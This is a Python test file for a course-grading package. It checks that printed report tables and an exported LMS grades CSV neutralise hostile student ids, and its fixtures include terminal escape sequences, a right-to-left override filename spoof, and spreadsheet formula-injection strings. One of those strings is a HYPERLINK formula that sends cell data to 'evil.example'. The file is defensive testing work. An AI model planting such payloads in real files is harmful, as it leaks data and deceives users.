"""Report tables and the LMS CSV are safe to print and to open: student ids with terminal escape
sequences or spreadsheet formulas come back neutralised in the data the API returns."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from mvs_course.grading import report
from mvs_course.grading.course import Course
from mvs_course.grading.safetext import printable, spreadsheet_safe

ROOT = Path(__file__).resolve().parents[2]
TITLE = "eve\x1b]0;all passed\x07\x1b[2J"  # sets the terminal title, clears the screen
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"full marks")'
BIDI = "mallory\u202etxt.exe"
STUDENTS = ["ana", TITLE, FORMULA, "+1-2", "@SUM(A1)", "\tx", BIDI]


@pytest.fixture
def scores(monkeypatch):
    rows = [
        {"student": who, "notebook": "nb", "item": item, "score": 1.0, "max_score": 1.0}
        for who in STUDENTS
        for item in ("test_a", "=item")
    ]
    monkeypatch.setattr(report, "item_scores", lambda course, assignment: pd.DataFrame(rows))
    return Course(ROOT, ROOT, ROOT / "exercises", ROOT / "solutions")


def _raw(text: str) -> bool:
    return any((ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c == "\u202e" for c in text)


def test_printable_escapes_control_and_bidi_characters():
    assert printable(TITLE) == "eve\\x1b]0;all passed\\x07\\x1b[2J"
    assert printable(BIDI) == "mallory\\u202etxt.exe"
    assert printable("line\nnext\ttab", newlines=True) == "line\nnext\\x09tab"
    assert printable("Zoë 张伟 café") == "Zoë 张伟 café"


def test_spreadsheet_safe_quotes_every_formula_start():
    for text in (FORMULA, "+1", "-1", "@x", "\tx", "\rx"):
        assert spreadsheet_safe(text).startswith("'")
    assert spreadsheet_safe("ana") == "ana" and spreadsheet_safe("a=b") == "a=b"


def test_tables_hold_no_raw_control_characters(scores):
    students = report.student_table(scores, "any")
    items = report.item_table(scores, "any")
    printed = students.to_string() + items.to_string()
    assert not _raw(printed)
    assert "eve\\x1b]0;all passed" in printed


def test_lms_csv_cells_never_start_a_formula(scores, tmp_path):
    path = report.write_csv(report.student_table(scores, "any"), tmp_path / "grades.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert not _raw("".join(cells))
    ids = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in ids and "ana" in ids and "'=item" in rows[0]
    assert all(float(row[1]) == 2.0 for row in rows[1:])  # numbers stay numbers
